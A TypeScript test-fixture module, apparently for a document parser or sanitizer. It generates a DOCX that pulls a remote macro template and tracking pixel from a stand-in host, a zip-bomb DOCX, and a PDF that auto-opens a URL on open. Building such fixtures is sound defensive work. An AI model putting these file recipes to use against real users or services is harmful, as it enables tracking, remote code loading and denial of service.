import { smallZip } from './small-zip.js';

const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A DOCX with one paragraph, that names an image and a template of another machine. */
export function aDocx(text: string): Buffer {
  return smallZip({
    '[Content_Types].xml': `<Types xmlns="${PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    '_rels/.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/_rels/document.xml.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r2" Type="${OFFICE}/attachedTemplate" Target="http://198.51.100.7/template.dotm" TargetMode="External"/><Relationship Id="r3" Type="${OFFICE}/image" Target="http://198.51.100.7/pixel.png" TargetMode="External"/></Relationships>`,
    'word/document.xml': `<w:document xmlns:w="${WORD}"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
  });
}

/** A DOCX that unpacks to far more than it weighs. */
export function aZipBomb(megabytes: number): Buffer {
  const filler = Buffer.alloc(megabytes * 1024 * 1024, 'a');
  return smallZip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': Buffer.concat([Buffer.from(`<w:document xmlns:w="${WORD}"><w:body><w:p><w:r><w:t>`), filler]),
  });
}

/** A PDF with one page of text, in the letters of Latin-1, and a link to another machine that it wants opened. */
export function aPdf(text: string): Buffer {
  const escaped = text.replaceAll(/[()\\]/g, (character) => `\\${character}`);
  const stream = `BT /F1 12 Tf 40 700 Td (${escaped}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://198.51.100.7/opened) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const offset = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}`;
  const trailer = `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.from(body + table + trailer, 'latin1');
}
